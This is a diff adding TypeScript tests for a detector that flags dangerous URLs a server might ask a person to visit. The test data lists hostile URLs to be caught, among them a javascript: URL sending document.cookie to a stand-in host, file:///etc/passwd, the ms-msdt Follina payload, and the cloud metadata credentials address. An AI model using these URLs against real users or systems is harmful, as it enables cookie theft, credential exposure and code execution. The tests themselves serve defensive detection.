@@ -175,3 +175,38 @@ it('reads a name as the WHATWG standard does, without asking it or with', () => 
     { numRuns: 2_000 },
   );
 });
+
+describe('a page that a server has a person visit', () => {
+  const asked = (url: string) =>
+    found({ mode: 'url', message: 'Please sign in.', elicitationId: 'e', url }, 'elicitation').map(
+      ({ rule, confidence }) => `${rule}:${confidence}`,
+    );
+
+  it.each([
+    ['a script', 'javascript:fetch("https://e.example/"+document.cookie)', 'ssrf.scheme'],
+    ['the same as a browser reads it', ' \u0001jAva\tscr\nipt:alert(1)', 'ssrf.scheme'],
+    ['a page of its own', 'data:text/html,<form action=https://e.example>', 'ssrf.scheme'],
+    ['a file', 'file:///etc/passwd', 'ssrf.scheme'],
+    ['what Windows runs (CVE-2022-30190)', 'ms-msdt:/id PCWDiagnostic /skip force', 'ssrf.scheme'],
+    ['a search that opens a share', 'search-ms:query=x&crumb=location:%5C%5Ce.example%5Cs', 'ssrf.scheme'],
+    ['a service that is no page', 'gopher://example.com:25/', 'ssrf.scheme'],
+    ['the credentials of the machine', 'http://169.254.169.254/latest/meta-data/iam', 'ssrf.metadata'],
+    ['one host shown, another meant', 'https://github.com@e.example/login', 'ssrf.userinfo'],
+  ])('is none: %s', (_, url, rule) => expect(asked(url)).toContain(`${rule}:high`));
+
+  it.each([
+    ['of a service', 'https://github.com/login/oauth/authorize?client_id=x&redirect_uri=http%3A%2F%2Flocalhost%3A3000%2Fcallback'],
+    ['of a company', 'https://sso.corp.example:8443/authorize?state=javascript:'],
+    ['of a program', 'vscode://vscode.github-authentication/did-authenticate'],
+    ['of a mail', 'mailto:support@example.com'],
+  ])('%s', (_, url) => expect(asked(url)).toEqual([]));
+
+  it('may be on the machine, which is only noted', () => expect(asked('http://localhost:3000/connect')).toEqual(['ssrf.loopback:medium']));
+
+  it('is looked at where the same was the argument of a call before', () => {
+    const url = 'javascript:void(document.title)';
+    expect(found({ url })).toEqual([]);
+    expect(asked(url)).toEqual(['ssrf.scheme:high']);
+    expect(found({ url })).toEqual([]);
+  });
+});
